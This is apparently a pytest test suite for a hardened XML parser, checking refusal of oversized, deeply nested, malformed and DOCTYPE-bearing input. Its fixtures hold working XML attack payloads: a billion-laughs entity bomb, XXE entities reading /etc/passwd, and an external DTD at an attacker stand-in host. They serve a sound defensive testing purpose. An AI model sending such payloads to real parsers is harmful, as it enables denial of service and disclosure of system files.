"""The hardened XML parser: size, DOCTYPE/entities, well-formedness, depth and PIs."""

from __future__ import annotations

import threading
import time

import pytest
from lxml import etree

from codes.errors import RenkeiError
from middleware import hardened_xml
from middleware.hardened_xml import parse_xml, serialize

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<lolz>&lol9;</lolz>
"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<foo>&xxe;</foo>
"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE foo SYSTEM "http://attacker.invalid/evil.dtd">
<foo/>
"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE foo [
 <!ENTITY % remote SYSTEM "file:///etc/passwd">
 %remote;
]>
<foo/>
"""

HOSTILE_DOCTYPES = {
    "billion_laughs": BILLION_LAUGHS,
    "external_entity": EXTERNAL_ENTITY,
    "external_dtd": EXTERNAL_DTD,
    "parameter_entity": PARAMETER_ENTITY,
}


def refusal(data: bytes, **kwargs: int) -> RenkeiError:
    """Parse data expecting a refusal, and return it."""
    with pytest.raises(RenkeiError) as info:
        parse_xml(data, **kwargs)
    return info.value


def nested(depth: int) -> bytes:
    """A document whose elements nest exactly depth levels."""
    return b"<a>" * depth + b"</a>" * depth


@pytest.fixture
def no_prescan(monkeypatch: pytest.MonkeyPatch) -> None:
    """Disable the byte pre-scan so the post-parse defences are exercised alone."""
    monkeypatch.setattr(hardened_xml, "_FORBIDDEN_MARKERS", ())


def test_plain_document_returns_root_element() -> None:
    """A well-formed document without DTD parses to its root element."""
    root = parse_xml(b'<?xml version="1.0" encoding="UTF-8"?><r xmlns="urn:x"><c a="1">t</c></r>')
    assert root.tag == "{urn:x}r"
    assert root[0].get("a") == "1"
    assert root[0].text == "t"


def test_comments_are_accepted() -> None:
    """Comments are harmless and do not refuse a document."""
    root = parse_xml(b"<!-- before --><r><!-- inside --><c/></r><!-- after -->")
    assert root.tag == "r"


@pytest.mark.parametrize("name", sorted(HOSTILE_DOCTYPES))
def test_doctype_attacks_are_refused_quickly(name: str) -> None:
    """Entity bombs, external entities, external DTDs and parameter entities are refused."""
    started = time.perf_counter()
    error = refusal(HOSTILE_DOCTYPES[name])
    assert error.code == "XmlDoctypeForbidden"
    assert time.perf_counter() - started < 0.5


@pytest.mark.usefixtures("no_prescan")
@pytest.mark.parametrize("name", sorted(HOSTILE_DOCTYPES))
def test_doctype_attacks_missed_by_prescan_are_refused_after_parse(name: str) -> None:
    """Without the pre-scan, the document-info check still refuses, without expanding."""
    started = time.perf_counter()
    error = refusal(HOSTILE_DOCTYPES[name])
    assert error.code == "XmlDoctypeForbidden"
    assert time.perf_counter() - started < 0.5


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be"])
def test_utf16_doctype_is_refused_by_prescan(encoding: str) -> None:
    """A DOCTYPE hidden in UTF-16 is still caught by the pre-scan."""
    bom = "\ufeff".encode(encoding)
    data = bom + BILLION_LAUGHS.decode("ascii").replace('<?xml version="1.0"?>', "").encode(
        encoding
    )
    assert refusal(data).code == "XmlDoctypeForbidden"


def test_undeclared_entity_reference_is_refused_as_forbidden() -> None:
    """A reference to an entity (none can be declared) is refused as a DOCTYPE/entity use."""
    assert refusal(b"<a>&foo;</a>").code == "XmlDoctypeForbidden"


def test_predefined_and_character_references_are_accepted() -> None:
    """The five predefined entities and character references are ordinary text."""
    root = parse_xml(b"<a>&amp;&lt;&gt;&quot;&apos;&#x41;&#12354;</a>")
    assert root.text == "&<>\"'Aあ"


def test_doctype_marker_inside_comment_is_refused() -> None:
    """The pre-scan is blunt: a DOCTYPE marker even inside a comment refuses the document."""
    assert refusal(b"<a><!-- <!DOCTYPE x> --></a>").code == "XmlDoctypeForbidden"


def test_oversized_document_is_refused_before_parsing() -> None:
    """A document one byte over the default limit is refused as too large, with its size."""
    data = b"<a>" + b"x" * (hardened_xml.DEFAULT_MAX_BYTES - 5) + b"</a"  # also malformed
    assert len(data) == hardened_xml.DEFAULT_MAX_BYTES + 1
    error = refusal(data)
    assert error.code == "XmlTooLarge"
    assert error.params == {"size": len(data), "limit": hardened_xml.DEFAULT_MAX_BYTES}


def test_document_at_the_size_limit_is_accepted() -> None:
    """A document of exactly max_bytes is parsed; one more byte is refused."""
    data = b"<a>" + b"x" * 93 + b"</a>"
    assert len(data) == 100
    assert parse_xml(data, max_bytes=100).tag == "a"
    assert refusal(data + b" ", max_bytes=100).code == "XmlTooLarge"


def test_ten_thousand_deep_nesting_is_refused_quickly() -> None:
    """A 10,000-level nesting is refused as too deep, without recursion, in little time."""
    started = time.perf_counter()
    error = refusal(nested(10_000))
    assert error.code == "XmlTooDeep"
    assert error.params == {"limit": hardened_xml.DEFAULT_MAX_DEPTH}
    assert time.perf_counter() - started < 0.5


def test_depth_limit_is_inclusive() -> None:
    """Nesting exactly max_depth levels is accepted; one more level is refused."""
    assert parse_xml(nested(32)).tag == "a"
    assert refusal(nested(33)).code == "XmlTooDeep"
    assert parse_xml(nested(3), max_depth=3).tag == "a"
    assert refusal(nested(4), max_depth=3).params == {"limit": 3}


def test_depth_counts_elements_not_comments() -> None:
    """A comment inside the deepest allowed element does not count as a level."""
    data = b"<a>" * 2 + b"<!-- c -->" + b"</a>" * 2
    assert parse_xml(data, max_depth=2).tag == "a"


def test_depth_limit_above_libxml2_limit_is_a_programming_error() -> None:
    """Asking for a depth libxml2 cannot parse without huge_tree raises ValueError."""
    with pytest.raises(ValueError):
        parse_xml(b"<a/>", max_depth=hardened_xml.LIBXML2_MAX_DEPTH + 1)


@pytest.mark.parametrize(
    "data",
    [
        b"<a><?evil data?></a>",
        b"<?xml-stylesheet href='x.xsl'?><a/>",
        b"<a/><?after data?>",
    ],
    ids=["inside", "before_root", "after_root"],
)
def test_processing_instructions_are_refused(data: bytes) -> None:
    """A processing instruction anywhere in the document is refused as malformed."""
    error = refusal(data)
    assert error.code == "XmlMalformed"
    assert "processing instruction" in error.params["detail"]


def test_malformed_document_carries_libxml2_message() -> None:
    """A well-formedness error is refused with libxml2's own message as the detail."""
    error = refusal(b"<a><b></a>")
    assert error.code == "XmlMalformed"
    assert "mismatch" in error.params["detail"]


@pytest.mark.parametrize("data", [b"", b"not xml", b"<a>", b"<a>\x00</a>"])
def test_garbage_is_refused_as_malformed(data: bytes) -> None:
    """Empty, truncated or binary input is refused as malformed."""
    assert refusal(data).code == "XmlMalformed"


def test_text_input_is_a_programming_error() -> None:
    """Passing str instead of bytes raises TypeError."""
    with pytest.raises(TypeError):
        parse_xml("<a/>")  # type: ignore[arg-type]


def test_each_thread_gets_its_own_parser() -> None:
    """The parser is reused within a thread and distinct across threads."""
    parsers: list[etree.XMLParser] = []

    def work() -> None:
        parsers.append(hardened_xml.thread_parser())
        for _ in range(200):
            assert parse_xml(b"<a><b>x</b></a>")[0].text == "x"

    threads = [threading.Thread(target=work) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert hardened_xml.thread_parser() is hardened_xml.thread_parser()
    assert len({id(parser) for parser in parsers}) == 4


def test_serialize_writes_utf8_with_declaration_and_without_tail() -> None:
    """serialize gives UTF-8 bytes with an XML declaration and drops the element's tail."""
    parent = etree.Element("p")
    child = etree.SubElement(parent, "c")
    child.text = "日本"
    child.tail = "tail"
    data = serialize(child)
    assert data.startswith(b"<?xml version='1.0' encoding='UTF-8'?>")
    assert "日本".encode() in data
    assert b"tail" not in data
    assert parse_xml(data).text == "日本"


@pytest.mark.usefixtures("no_prescan")
@pytest.mark.parametrize(
    "template",
    [
        '<!DOCTYPE foo SYSTEM "{url}"><foo/>',
        '<!DOCTYPE foo [<!ENTITY % p SYSTEM "{url}"> %p;]><foo/>',
        '<!DOCTYPE foo [<!ENTITY x SYSTEM "{url}">]><foo>&x;</foo>',
    ],
    ids=["external_dtd", "parameter_entity", "external_entity"],
)
def test_external_resources_are_never_loaded(tmp_path, template: str) -> None:
    """External DTDs and entities are not fetched: a broken target would make them malformed."""
    target = tmp_path / "broken.dtd"
    target.write_text('<!ELEMENT !!! garbage <!ENTITY % q "')
    data = template.format(url=target.as_uri()).encode()
    assert refusal(data).code == "XmlDoctypeForbidden"
